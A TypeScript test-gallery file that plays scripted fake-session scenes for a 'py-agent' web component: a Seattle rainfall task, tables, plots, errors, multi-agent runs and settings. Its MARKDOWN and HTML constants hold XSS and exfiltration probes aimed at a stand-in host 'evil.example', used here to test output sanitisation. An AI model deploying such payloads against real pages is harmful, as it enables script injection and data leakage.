/**
 * Shows every state of the element with a fake session: `gallery.html#<scene>`. It is for people
 * and for tests/e2e/test_element.py; `node tests/web/support/gallery.mjs` serves it. A test uses
 * `session`, `agent` and `say` to act as the agent.
 */
import type { PyAgent } from "../../../web/src/element/py-agent";
import "../../../web/src/pyagent";
import { SessionError } from "../../../web/src/api/error";
import type { Event } from "../../../web/src/protocol";
import { FakeSession } from "./fake_session";
import * as say from "./messages";

const sheet = new CSSStyleSheet();
sheet.replaceSync(`
  html, body { height: 100%; margin: 0; background: light-dark(#ffffff, #1a1a19); }
  py-agent { height: 100dvh; }
`);
document.adoptedStyleSheets.push(sheet);

const TASK =
  "Which month is the rainiest in Seattle? Show the averages of each month as a table and as a " +
  "plot, and save them as a CSV file.";
const CODE = `import calendar
import csv
import sqlite3

with open("seattle-weather.csv") as file:
    days = list(csv.DictReader(file))

db = sqlite3.connect(":memory:")
db.execute("CREATE TABLE weather (date, rain REAL, high REAL, low REAL)")
db.executemany("INSERT INTO weather VALUES (:date, :precipitation, :temp_max, :temp_min)", days)

# one row a month
for month in range(1, 13):
    print(f"{calendar.month_name[month]:<10} {total(month):7.1f} mm")`;
const MONTHS =
  "January February March April May June July August September October November December";
const ROWS = MONTHS.split(" ").map((month, index) => ({
  month,
  rain_mm: [116.6, 105.7, 151.8, 93.9, 51.9, 48.1, 12.1, 41.2, 58.9, 126.6, 160.6, 155.2][index]!,
  rainy_days_percent: [53, 61, 63, 57, 36, 37, 14, 22, 34, 52, 64, 67][index]!,
  note: index === 6 ? null : "ok",
}));
const TABLE = {
  "text/plain": "12 rows",
  "application/vnd.dataresource+json": {
    schema: { fields: Object.keys(ROWS[0]!).map((name) => ({ name, type: "any" })) },
    data: ROWS,
  },
};
const WIDE = Array.from({ length: 300 }, (_, index) => ({
  n: index,
  title: "A title that is rather long and goes on and on, beyond seventy letters, and then ends",
  address: "https://example.org/a/path/that/has/no/space/in/it/and/goes/on/for/quite/some/time",
  ...Object.fromEntries(Array.from({ length: 14 }, (_, i) => [`measure_${i}`, (index * 7.3) % 11])),
}));
const WIDE_TABLE = {
  "text/plain": "300 rows",
  "application/vnd.dataresource+json": {
    schema: { fields: Object.keys(WIDE[0]!).map((name) => ({ name, type: "any" })) },
    data: WIDE.slice(0, 200),
    total_rows: 300,
  },
};
const BARS = ROWS.map(
  ({ rain_mm }, i) =>
    `<rect x="${50 + i * 52}" y="${260 - rain_mm * 1.3}" width="34" height="${rain_mm * 1.3}" rx="4" fill="${i === 10 ? "#2563eb" : "#a5c9fa"}"/>
     <text x="${67 + i * 52}" y="280" text-anchor="middle" fill="#475569">${ROWS[i]!.month.slice(0, 3)}</text>`,
).join("");
const PLOT = {
  "text/plain": "<SVG>",
  "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 700 300" width="700" height="300" font-family="system-ui" font-size="13"><text x="50" y="30" font-size="17" font-weight="600">Seattle, month by month</text>${BARS}</svg>`,
};
const ERROR = {
  type: "KeyError",
  message: "'rain'",
  line: 7,
  source_line: '    total += float(day["rain"])',
  traceback: 'File "<step>", line 7, in total\n    total += float(day["rain"])\nKeyError: \'rain\'',
  can_retry: true,
};
const ANSWER =
  "**November** is the rainiest month in Seattle: 160.6 mm of rain in an average year, and 64 % of " +
  "its days are rainy. The driest is July with 12.1 mm. The averages of all months are in " +
  "`seattle-months.csv`.";
const STREAM =
  "I look at the file first: how many days it covers, and what its columns are.\n\n```python\n" +
  CODE.slice(0, 260);

const solving: Event[] = [
  say.started(TASK),
  say.step(1),
  say.replied(
    1,
    "I look at the file first: how many days it covers, and what its columns are.",
    CODE,
  ),
  say.printed(1, "1,461 days, from 2012-01-01 to 2015-12-31\n"),
  say.ended(
    1,
    { value: { "text/plain": "[{'date': '2012-01-01', 'precipitation': '0.0'}]" } },
    { rows: "[{'date': '2012-01-01', …}, …]" },
  ),
  say.step(2),
  say.replied(
    2,
    "One row a day. I sum up the rain of each month.",
    CODE.replace("rain REAL", "rain"),
  ),
  say.called(2, 1, "wikipedia_search", { query: "Climate of Seattle", limit: 3 }),
  say.returned(
    2,
    1,
    "wikipedia_search",
    "Seattle lies in the temperate oceanic climate zone, with cool, wet winters.",
  ),
  say.called(2, 2, "visit_webpage", { url: "https://example.org/weather" }),
  say.returned(2, 2, "visit_webpage", "", {
    ...ERROR,
    type: "ToolError",
    message: "The page did not answer within 20 s.",
  }),
  say.printed(2, "DeprecationWarning: this will go\n", "stderr"),
  say.ended(2, { error: ERROR }),
  say.step(3),
  say.replied(3, "The column is called *precipitation*. Again, and a picture of it.", CODE),
  say.shown(3, TABLE),
  say.shown(3, PLOT),
];
const csv = new TextEncoder().encode("month,rain_mm\nJanuary,116.6\n").buffer;
const solved: Event[] = [
  ...solving,
  say.made(3, { path: "seattle-months.csv", size_bytes: 512, media_type: "text/csv" }),
  say.ended(3),
  say.finished({ output: ANSWER, steps: 3 }),
];
const MARKDOWN = `## What I found

A list with [a link](https://example.org/path?q=1) and https://example.org alone:

1. First, \`inline code\`
2. Second, **bold** and *not*
   - nested

| City | People |
|---|--:|
| Lisbon | 545,796 |
| Porto | 231,800 |

Mass is $m = \\frac{E}{c^2}$, which costs $5 or $10, and

$$E = mc^2 \\qquad \\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$$

\\begin{align}
f(x) &= \\begin{cases} x^2 & \\text{if } x > 0 \\\\ 0 & \\text{else} \\end{cases} \\\\
\\hat{v} &= \\sqrt{\\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix}}
\\end{align}

> A quote.

\`\`\`python
print("hello")  # comment
\`\`\`

![remote](https://evil.example/leak.png?d=secret) <img src=x onerror=alert(1)>`;

const HTML = `<h1>A page</h1><p style="color: teal">Styled.</p>
<script>parent.postMessage("ran", "*")</script><img src="https://evil.example/html.png">
<form action="https://evil.example"><button>Send</button></form>`;

const PLAN =
  "1. Look at the file.\n2. Add up the rain of each **month**.\n3. Draw a plot and save it.";
const MAIL = {
  to: "ann@example.org",
  subject: "Rain in Seattle",
  body: "Dear Ann,\n\nNovember is the rainiest month.\n\nYours",
  options: { copies: 2, attach: ["seattle-months.csv"] },
};
const asking: Event[] = [
  say.started(TASK),
  say.planned(1, PLAN),
  say.step(1),
  say.replied(1, "I send the result to Ann.", "send_mail(...)"),
  say.called(1, 1, "send_mail", MAIL),
  say.asked(1, 1, "send_mail", MAIL),
];
const part = (id: string, agent: string, task: string, callId: number) => [
  say.called(1, callId, agent, { task }),
  say.managed(task, { run_id: id, agent, parent_run_id: "r1", parent_call_id: callId }),
  say.of(id, say.step(1)),
  say.of(id, say.replied(1, `I begin with what is known of ${agent}.`, "print(1 + 1)")),
  say.of(id, say.printed(1, "2\n")),
];
const cost = { ...say.usage, cost_usd: 0.0031 };
const team: Event[] = [
  say.started(TASK),
  say.delta(1, "1. Ask the others.\n", "plan"),
  say.planned(1, PLAN),
  say.step(1),
  say.replied(1, "Three agents work on parts of it.", ""),
  ...part("a", "research", "Find how much it rains in Seattle in each month of the year.", 1),
  ...part("b", "analysis", "Compute the averages.", 2),
  ...part("c", "writer", "Write a summary in three sentences for people who plan a visit.", 3),
  say.of("a", say.ended(1)),
  say.of("a", say.finished({ output: "160.6 mm in **November**.", token_usage: cost })),
  say.returned(1, 1, "research", "160.6 mm in November."),
];
const teamDone: Event[] = [
  ...team,
  say.of("b", say.finished({ success: false, reason: "limit", seconds: 12.4 })),
  say.returned(1, 2, "analysis", "", {
    ...ERROR,
    type: "ToolError",
    message: "It did not finish.",
  }),
  say.of("c", say.finished({ output: "It rains in winter.", token_usage: cost })),
  say.returned(1, 3, "writer", "It rains in winter."),
  say.ended(1),
  say.finished({ output: ANSWER, steps: 1, token_usage: { ...cost, cost_usd: 0.0107 } }),
];

const questions: Event[] = [
  ...team,
  ...["b", "c"].flatMap((id) => [
    say.of(id, say.called(1, 1, "send_mail", MAIL)),
    say.of(id, say.asked(1, 1, "send_mail", MAIL)),
  ]),
];

const task = (index: number, text: string, id = `t${index}`) => [
  say.called(1, index, "task", { task: text }),
  say.managed(text, {
    run_id: id,
    agent: `Task ${index}`,
    parent_run_id: "r1",
    parent_call_id: index,
  }),
  say.of(id, say.step(1)),
];
const taskDone = (index: number, run: Parameters<typeof say.finished>[0]) => [
  say.of(`t${index}`, say.ended(1)),
  say.of(`t${index}`, say.finished(run)),
  say.returned(1, index, "task", ""),
];
const batch: Event[] = [
  say.started("4 tasks"),
  say.step(1),
  ...task(1, "Which month is the rainiest in Seattle?"),
  ...task(2, "Which month is the driest in Seattle, and by how much, over all four years?"),
  ...taskDone(1, { output: "**November**.", token_usage: cost }),
  ...task(3, "Which day was the hottest?"),
];
const batchDone: Event[] = [
  ...batch,
  ...taskDone(2, { output: "July.", token_usage: cost }),
  ...task(4, "Which day was the coldest?"),
  ...taskDone(3, { success: false, reason: "max_steps", token_usage: cost }),
  ...taskDone(4, { output: "2013-12-08.", token_usage: cost }),
  say.ended(1),
  say.finished({ output: "3 of 4 tasks answered.", steps: 4, token_usage: cost, seconds: 14.2 }),
];

type Scene = (agent: PyAgent, session: FakeSession) => void | Promise<void>;
const DEMO = { kind: "demo" };
const ENDPOINT = {
  kind: "endpoint",
  endpoint: { provider: "openai", baseUrl: "https://api.openai.com/v1", model: "gpt-5-mini" },
};
const LOCAL = { kind: "local", local: "qwen2.5-coder-0.5b" };

function inShadow<T extends Element>(root: Element, selector: string): T {
  return root.shadowRoot!.querySelector<T>(selector)!;
}

function play(events: Event[]): Scene {
  return async (agent, session) => {
    session.start();
    const file = new File(["date,precipitation\n".repeat(2600)], "seattle-weather.csv");
    void agent.run(TASK, { files: [file] });
    await session.ready;
    await new Promise((resolve) => setTimeout(resolve));
    for (const event of events)
      session.say(event, ...(event.type === "file_produced" ? [csv] : []));
  };
}

/** The run with its steps unfolded. */
function opened(events: Event[]): Scene {
  return async (agent, session) => {
    await play(events)(agent, session);
    await new Promise((resolve) => setTimeout(resolve, 300));
    inShadow<HTMLDetailsElement>(inShadow(agent, "pa-run"), "details").open = true;
  };
}

function settingsAt(page: "endpoint" | "local" | "agent" | "demo"): Scene {
  return async (agent, session) => {
    session.start();
    await agent.updateComplete;
    const dialog = inShadow<HTMLElementTagNameMap["pa-settings"]>(agent, "pa-settings");
    await dialog.updateComplete;
    dialog.show(page as "endpoint");
  };
}

/** Four tasks at once. */
function mapped(events: Event[]): Scene {
  return async (agent, session) => {
    session.start();
    agent.map(["one", "two", "three", "four"]);
    await session.ready;
    await new Promise((resolve) => setTimeout(resolve));
    for (const event of events) session.say(event);
  };
}

/** Two tasks, one after the other. */
const twice: Scene = async (agent, session) => {
  await play(solved)(agent, session);
  await agent.updateComplete;
  void agent.run("And which is the driest?");
  await session.ready;
  await new Promise((resolve) => setTimeout(resolve));
  const cached = { ...cost, cached_tokens: 1100 };
  const many = { ...cached, input_tokens: 12_604, output_tokens: 1250, cost_usd: 0.0214 };
  for (const message of [
    say.started("And which is the driest?"),
    say.totals({ runs: 2, steps: 4, token_usage: many, seconds: 75 }),
    say.finished({ output: "July, with 12.1 mm.", token_usage: cached }),
  ])
    session.say(message);
};

const failure = (kind: string, message: string, advice: string) =>
  say.finished({ success: false, reason: "error", steps: 1, problem: { kind, message, advice } });

const scenes: Record<string, { stored: object; scene: Scene }> = {
  welcome: { stored: {}, scene: (_, session) => session.start() },
  loading: {
    stored: {},
    scene: (_, session) =>
      session.progress({ stage: "runtime", label: "Loading Python", loaded: 4.2e6, total: 13.1e6 }),
  },
  chosen: { stored: ENDPOINT, scene: (_, session) => session.start() },
  streaming: {
    stored: ENDPOINT,
    scene: play([say.started(TASK), say.step(1), say.delta(1, STREAM)]),
  },
  running: { stored: DEMO, scene: play(solving) },
  solved: { stored: DEMO, scene: play(solved) },
  batch: { stored: ENDPOINT, scene: mapped(batch) },
  "batch-done": { stored: ENDPOINT, scene: mapped(batchDone) },
  twice: { stored: ENDPOINT, scene: twice },
  open: { stored: DEMO, scene: opened(solved) },
  planning: {
    stored: ENDPOINT,
    scene: play([say.started(TASK), say.delta(1, PLAN.slice(0, 60), "plan")]),
  },
  asking: { stored: ENDPOINT, scene: play(asking) },
  questions: { stored: ENDPOINT, scene: play(questions) },
  team: { stored: ENDPOINT, scene: play(team) },
  "team-open": { stored: ENDPOINT, scene: opened(teamDone) },
  limit: {
    stored: ENDPOINT,
    scene: play([
      ...solving,
      say.ended(3),
      say.finished({
        success: false,
        reason: "limit",
        steps: 3,
        token_usage: cost,
        problem: {
          kind: "limit",
          message: "The run was ended at its limit of 0.003 US dollars.",
          advice: "Allow more, or ask for a smaller part of the task.",
        },
      }),
    ]),
  },
  markdown: {
    stored: ENDPOINT,
    scene: play([say.started(TASK), say.finished({ output: MARKDOWN })]),
  },
  html: {
    stored: ENDPOINT,
    scene: play([
      say.started(TASK),
      say.step(1),
      say.shown(1, { "text/plain": "page", "text/html": HTML }),
      say.ended(1),
      say.finished({ output: "See the page." }),
    ]),
  },
  table: {
    stored: ENDPOINT,
    scene: play([
      say.started(TASK),
      say.finished({ output: ROWS as never, bundle: TABLE as never }),
    ]),
  },
  wide: {
    stored: ENDPOINT,
    scene: play([
      say.started(TASK),
      say.finished({ output: WIDE as never, bundle: WIDE_TABLE as never }),
    ]),
  },
  nokey: {
    stored: ENDPOINT,
    scene: (agent, session) => {
      session.start();
      void agent.run("What is 2% of 67000?");
    },
  },
  failed: {
    stored: ENDPOINT,
    scene: play([
      say.started(TASK),
      say.step(1),
      say.notice("The provider is busy (429). Trying again in 3 s.", "warning", 3),
      say.notice("The provider is busy (429). Trying again in 6 s.", "warning", 6),
      failure(
        "rate_limited",
        "The provider answered with 429: too many requests.",
        "Wait a minute, or choose another model.",
      ),
    ]),
  },
  busy: {
    stored: ENDPOINT,
    scene: play([
      say.started(TASK),
      say.step(1),
      ...[1, 2, 4].map((s) =>
        say.notice(`The provider is busy (429). Trying again in ${s} s.`, "warning", s),
      ),
    ]),
  },
  paused: {
    stored: ENDPOINT,
    scene: play([say.started(TASK), say.step(1), say.paused()]),
  },
  maxsteps: {
    stored: ENDPOINT,
    scene: play([
      ...solving,
      say.ended(3),
      say.finished({ success: false, reason: "max_steps", steps: 3 }),
    ]),
  },
  stopped: {
    stored: ENDPOINT,
    scene: play([...solving, say.finished({ success: false, reason: "cancelled", steps: 3 })]),
  },
  unsupported: {
    stored: {},
    scene: (_, session) =>
      session.fail(
        new SessionError(
          "unsupported",
          "This browser cannot run WebAssembly.",
          "Use a current Chrome, Edge, Firefox or Safari.",
        ),
      ),
  },
  files: {
    stored: ENDPOINT,
    scene: async (agent, session) => {
      session.start();
      await agent.updateComplete;
      const composer = inShadow<HTMLElementTagNameMap["pa-composer"]>(agent, "pa-composer");
      composer.fill("Compare these two files.\nWhich rows differ?\nShow them as a table.");
      await composer.attach([
        new File(["x".repeat(48219)], "measurements-2025-with-a-very-long-name-indeed.csv"),
        new File(["x".repeat(1200)], "measurements-2026.csv"),
      ]);
    },
  },
  burst: {
    stored: ENDPOINT,
    scene: async (agent, session) => {
      await play([say.started(TASK), say.step(1)])(agent, session);
      for (let i = 0; i < 10_000; i += 1) {
        session.say(say.delta(1, i % 40 ? `word${i} ` : "\n\nA **new** paragraph. "));
        if (i % 20 === 0) await new Promise((resolve) => setTimeout(resolve));
      }
      document.title = "done";
    },
  },
  "settings-endpoint": { stored: ENDPOINT, scene: settingsAt("endpoint") },
  "settings-custom": {
    stored: { kind: "endpoint", endpoint: { provider: "custom", baseUrl: "", model: "" } },
    scene: settingsAt("endpoint"),
  },
  "settings-local": { stored: LOCAL, scene: settingsAt("local") },
  "settings-agent": { stored: LOCAL, scene: settingsAt("agent") },
  "settings-demo": { stored: DEMO, scene: settingsAt("demo") },
};

const { stored, scene } = scenes[location.hash.slice(1)] ?? {
  stored: null,
  scene: scenes.welcome!.scene,
};
if (stored) localStorage.setItem("pyagent.settings", JSON.stringify(stored));
const session = new FakeSession();
const agent = document.createElement("py-agent");
agent.sessionFactory = () => session;
agent.autofocus = true;
document.body.append(agent);
Object.assign(globalThis, { agent, session, say, SessionError });
if (stored === ENDPOINT && !location.hash.endsWith("nokey")) {
  await agent.configure({ model: { ...ENDPOINT.endpoint, apiKey: "sk-example" } });
}
await scene(agent, session);
